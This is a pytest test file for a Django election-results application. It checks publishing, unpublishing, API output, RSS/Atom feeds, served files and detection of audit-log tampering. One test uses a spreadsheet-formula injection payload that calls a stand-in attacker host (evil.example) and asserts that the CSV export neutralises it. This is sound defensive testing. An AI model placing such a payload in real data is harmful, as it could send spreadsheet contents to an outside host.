"""Publishing and unpublishing: what the public, the API and the feeds see."""

from __future__ import annotations

from typing import Any

import feedparser
import pytest
from django.test import Client
from django.urls import reverse

from audit.models import AuditEntry
from audit.selectors import audit_chain_breaks
from elections.models import Phase
from elections.results import actions
from elections.results.models import Result, ResultFileKind
from tests.audit.tampering import append_only_trigger_disabled

pytestmark = pytest.mark.django_db

# Alice beats Bob 3-1 and Carol 3-1; Bob beats Carol 3-1.
BALLOTS = ((1, 2, 3), (1, 2, 3), (1, 3, 2), (3, 1, 2))


@pytest.fixture
def tallied(polled_contest: Any, django_capture_on_commit_callbacks: Any) -> Result:
    contest = polled_contest(ballots=BALLOTS)
    with django_capture_on_commit_callbacks(execute=True):
        actions.contest_close_and_tally(contest=contest)
    return Result.objects.get(contest=contest)


def test_a_draft_is_invisible_to_the_public_the_api_and_the_feeds(
    tallied: Result, client: Client
) -> None:
    contest = tallied.contest
    election = contest.election
    assert client.get(tallied.get_absolute_url()).status_code == 404
    file_url = reverse("results_file", args=[election.slug, contest.slug, "ballots_csv"])
    assert client.get(file_url).status_code == 404
    election_page = client.get(reverse("results_election", args=[election.slug])).content
    assert b"Alice Able" not in election_page
    api = client.get(reverse("api_contest", args=[election.slug, contest.slug])).json()
    assert api["result"] is None
    assert client.get(reverse("api_results")).json()["results"] == []
    for name in ("results_feed_rss", "results_feed_atom"):
        feed = feedparser.parse(client.get(reverse(name)).content)
        assert feed.entries == []
    feed = feedparser.parse(
        client.get(reverse("results_election_feed_rss", args=[election.slug])).content
    )
    assert feed.entries == []


def test_published_result_shows_winners_ranking_and_who_beats_whom(
    tallied: Result, client: Client, official: Any, django_capture_on_commit_callbacks: Any
) -> None:
    with django_capture_on_commit_callbacks(execute=True):
        actions.result_publish(result=tallied, actor=official)
    tallied.refresh_from_db()
    assert tallied.state == "published" and tallied.published_at is not None
    page = client.get(tallied.get_absolute_url()).content.decode()
    assert "Alice Able" in page and "Elected" in page
    # Colour plus text: each cell says who wins and by how much.
    assert 'class="cell-win"' in page and "beats by 2" in page
    assert 'class="cell-loss"' in page and "loses by 2" in page
    assert "python -m elections.condorcet tally" in page
    assert tallied.ballot_file_sha256 in page
    assert 'rel="alternate" type="application/rss+xml"' in page
    assert 'rel="alternate" type="application/atom+xml"' in page
    election_page = client.get(
        reverse("results_election", args=[tallied.contest.election.slug])
    ).content.decode()
    assert "Alice Able" in election_page and "50.00%" in election_page
    tallied.contest.election.refresh_from_db()
    assert tallied.contest.election.phase == Phase.PUBLISHED


def test_published_files_are_served_byte_for_byte(
    tallied: Result, client: Client, official: Any
) -> None:
    import hashlib

    actions.result_publish(result=tallied, actor=official)
    contest = tallied.contest
    kinds = set(tallied.files.values_list("kind", flat=True))
    assert kinds == set(ResultFileKind.values) - {"trackers"}
    for kind in kinds:
        response = client.get(
            reverse("results_file", args=[contest.election.slug, contest.slug, kind])
        )
        assert response.status_code == 200
        assert hashlib.sha256(response.content).hexdigest() == response["X-Content-SHA256"]
    ballots = client.get(
        reverse("results_file", args=[contest.election.slug, contest.slug, "ballots_csv"])
    )
    assert hashlib.sha256(ballots.content).hexdigest() == tallied.ballot_file_sha256
    receipts = (
        client.get(reverse("results_file", args=[contest.election.slug, contest.slug, "receipts"]))
        .content.decode()
        .split()
    )
    assert len(receipts) == len(BALLOTS) and receipts == sorted(receipts)


def test_feeds_carry_one_item_per_result_with_a_stable_guid_and_a_date(
    tallied: Result, client: Client, official: Any
) -> None:
    actions.result_publish(result=tallied, actor=official)
    election = tallied.contest.election
    urls = [
        reverse("results_feed_rss"),
        reverse("results_feed_atom"),
        reverse("results_election_feed_rss", args=[election.slug]),
        reverse("results_election_feed_atom", args=[election.slug]),
    ]
    guids = set()
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200
        feed = feedparser.parse(response.content)
        assert not feed.bozo, feed.bozo_exception
        assert len(feed.entries) == 1
        entry = feed.entries[0]
        assert "Alice Able" in entry.title
        assert entry.id.startswith("tag:")
        assert entry.published_parsed is not None
        assert "ballots" in entry.summary
        guids.add(entry.id)
    assert len(guids) == 1  # the same GUID in every feed and format
    # Fetching again gives the same GUID (stable, not generated per request).
    again = feedparser.parse(client.get(urls[0]).content)
    assert again.entries[0].id in guids
    assert feedparser.parse(client.get(urls[0]).content).version == "rss20"
    assert feedparser.parse(client.get(urls[1]).content).version == "atom10"


def test_unpublishing_hides_the_result_again_and_needs_a_reason(
    tallied: Result, client: Client, official: Any
) -> None:
    actions.result_publish(result=tallied, actor=official)
    with pytest.raises(actions.ResultError, match="reason"):
        actions.result_unpublish(result=tallied, actor=official, reason="  ")
    actions.result_unpublish(result=tallied, actor=official, reason="Wrong roll used")
    tallied.refresh_from_db()
    assert tallied.state == "draft" and tallied.unpublish_reason == "Wrong roll used"
    assert client.get(tallied.get_absolute_url()).status_code == 404
    assert feedparser.parse(client.get(reverse("results_feed_rss")).content).entries == []
    assert client.get(reverse("api_results")).json()["results"] == []
    recorded = list(
        AuditEntry.objects.filter(target=f"result:{tallied.pk}").values_list("action", flat=True)
    )
    assert {"result.tally", "result.publish", "result.unpublish"} <= set(recorded)


def test_api_lists_elections_contests_candidates_results_and_turnout(
    tallied: Result, client: Client, official: Any
) -> None:
    actions.result_publish(result=tallied, actor=official)
    contest = tallied.contest
    election = contest.election
    index = client.get(reverse("api_index")).json()
    assert index["openapi"].endswith("/api/openapi.json")
    elections = client.get(reverse("api_elections")).json()["elections"]
    assert [e["slug"] for e in elections] == [election.slug]
    detail = client.get(reverse("api_election", args=[election.slug])).json()
    assert [c["slug"] for c in detail["contests"]] == [contest.slug]
    body = client.get(reverse("api_contest", args=[election.slug, contest.slug])).json()
    assert sorted(c["name"] for c in body["candidates"]) == [
        "Alice Able",
        "Bob Baker",
        "Carol Cook",
    ]
    assert body["result"]["winners"] == ["Alice Able"]
    assert body["result"]["input_sha256"] == tallied.ballot_file_sha256
    # Electorate: 3 candidates, 4 voters and 1 contributor who did not vote.
    assert body["turnout"] == {
        "contest": contest.slug,
        "ballots": 4,
        "electorate": 8,
        "percent": 50.0,
    }
    turnout = client.get(reverse("api_election_turnout", args=[election.slug])).json()
    assert turnout["ballots"] == 4 and turnout["electorate"] == 8
    results = client.get(reverse("api_results"), {"election": election.slug}).json()
    assert [r["contest"] for r in results["results"]] == [contest.slug]


def test_openapi_document_describes_every_api_path(client: Client) -> None:
    document = client.get(reverse("api_openapi")).json()
    assert document["openapi"].startswith("3.")
    paths = set(document["paths"])
    assert {
        "/elections/",
        "/elections/{election_slug}/",
        "/elections/{election_slug}/{contest_slug}/",
        "/elections/{election_slug}/turnout/",
        "/results/",
        "/openapi.json",
    } <= paths

    def refs(node: Any) -> list[str]:
        if isinstance(node, dict):
            found = [node["$ref"]] if "$ref" in node else []
            return found + [ref for value in node.values() for ref in refs(value)]
        if isinstance(node, list):
            return [ref for value in node for ref in refs(value)]
        return []

    for ref in refs(document):
        root, section, name = ref.removeprefix("#/").split("/")
        assert root == "components" and name in document["components"][section], ref


def test_a_tampered_audit_entry_of_a_tally_is_detected(tallied: Result) -> None:
    assert audit_chain_breaks() == []
    entry = AuditEntry.objects.get(action="result.tally", target=f"result:{tallied.pk}")
    # Bypass the append-only model and trigger: what the database's owner could do.
    with append_only_trigger_disabled():
        AuditEntry.objects.filter(pk=entry.pk).update(
            detail={**entry.detail, "winners": ["Carol Cook"]}
        )
    assert entry.pk in audit_chain_breaks()


def test_the_election_page_links_its_results_feeds(tallied: Result, client: Client) -> None:
    election = tallied.contest.election
    page = client.get(reverse("election_detail", args=[election.slug])).content.decode()
    head = page.split("</head>", 1)[0]
    assert reverse("results_election_feed_rss", args=[election.slug]) in head
    assert reverse("results_election_feed_atom", args=[election.slug]) in head
    assert 'rel="alternate" type="application/atom+xml"' in head


def test_a_closed_election_is_listed_with_its_contests_still_being_counted(
    tallied: Result, client: Client
) -> None:
    election = tallied.contest.election
    index = client.get(reverse("results_index")).content.decode()
    assert election.name in index
    page = client.get(reverse("results_election", args=[election.slug])).content.decode()
    assert "Not published yet" in page and "Alice Able" not in page


def test_the_count_is_rendered_once_then_read_from_the_cache(
    tallied: Result, client: Client, official: Any, django_capture_on_commit_callbacks: Any
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    reviewer = Client()
    reviewer.force_login(official)
    draft = reviewer.get(tallied.get_absolute_url()).content.decode()
    assert "Draft, not public" in draft and "beats by 2" in draft
    with django_capture_on_commit_callbacks(execute=True):
        actions.result_publish(result=tallied, actor=official)
    with CaptureQueriesContext(connection) as first:
        page = client.get(tallied.get_absolute_url()).content.decode()
    # Published now, and the count the official's visit rendered is the one shown.
    assert "Draft, not public" not in page and "Published" in page
    assert "beats by 2" in page and tallied.ballot_file_sha256 in page
    contest = tallied.contest
    slugs = [contest.election.slug, contest.slug]
    ballots_file = reverse("results_file", args=[*slugs, "ballots_csv"])
    assert f'href="{ballots_file}"' in page
    with CaptureQueriesContext(connection) as second:
        again = client.get(tallied.get_absolute_url()).content.decode()
    assert again == page
    assert not any("resultfile" in query["sql"] for query in second.captured_queries)
    assert len(second.captured_queries) <= len(first.captured_queries)


def test_each_result_shows_its_own_count_from_the_cache(
    polled_contest: Any, client: Client, official: Any, django_capture_on_commit_callbacks: Any
) -> None:
    pages = []
    for ballots in (BALLOTS, ((3, 2, 1),) * 5):
        contest = polled_contest(ballots=ballots)
        with django_capture_on_commit_callbacks(execute=True):
            actions.contest_close_and_tally(contest=contest)
        result = Result.objects.get(contest=contest)
        with django_capture_on_commit_callbacks(execute=True):
            actions.result_publish(result=result, actor=official)
        pages.append(client.get(result.get_absolute_url()).content.decode())
    assert "4 ballots counted" in pages[0] and "5 ballots counted" in pages[1]


def test_a_candidate_named_like_a_formula_is_text_in_the_ballot_file(
    polled_contest: Any, client: Client, official: Any, django_capture_on_commit_callbacks: Any
) -> None:
    from elections.results.selectors import result_problems

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    contest = polled_contest(candidates=(formula, "Bob Baker", "Carol Cook"))
    with django_capture_on_commit_callbacks(execute=True):
        actions.contest_close_and_tally(contest=contest)
    result = Result.objects.get(contest=contest)
    with django_capture_on_commit_callbacks(execute=True):
        actions.result_publish(result=result, actor=official)
    url = reverse("results_file", args=[contest.election.slug, contest.slug, "ballots_csv"])
    header = client.get(url).content.decode().splitlines()[0]
    # A spreadsheet opening the download shows the name; it does not run it.
    assert header.startswith("\"'=HYPERLINK(") or header.startswith("'=HYPERLINK(")
    assert formula in result.names
    assert result_problems(result) == []  # the file still re-counts to the published result


def test_unpublishing_moves_the_election_back_to_tallied_and_publishing_again_restores_it(
    tallied: Result, client: Client, official: Any, django_capture_on_commit_callbacks: Any
) -> None:
    contest, election = tallied.contest, tallied.contest.election
    with django_capture_on_commit_callbacks(execute=True):
        actions.result_publish(result=tallied, actor=official)
    election.refresh_from_db()
    contest.refresh_from_db()
    assert election.phase == Phase.PUBLISHED and contest.state == "published"

    actions.result_unpublish(result=tallied, actor=official, reason="Wrong roll used")
    election.refresh_from_db()
    contest.refresh_from_db()
    assert election.phase == Phase.TALLIED and contest.state == "tallied"
    results_page = client.get(reverse("results_election", args=[election.slug])).content.decode()
    assert "Not published yet" in results_page and "Result published" not in results_page
    election_page = client.get(election.get_absolute_url()).content.decode()
    assert "<strong>Tallied</strong>" in election_page and "Result published" not in election_page
    api = client.get(reverse("api_election", args=[election.slug])).json()
    assert api["phase"] == "tallied"
    move = AuditEntry.objects.filter(action="election.phase_move").latest("pk")
    assert (move.detail["from"], move.detail["to"]) == ("published", "tallied")

    with django_capture_on_commit_callbacks(execute=True):
        actions.result_publish(result=tallied, actor=official)
    election.refresh_from_db()
    contest.refresh_from_db()
    assert election.phase == Phase.PUBLISHED and contest.state == "published"
    assert client.get(tallied.get_absolute_url()).status_code == 200
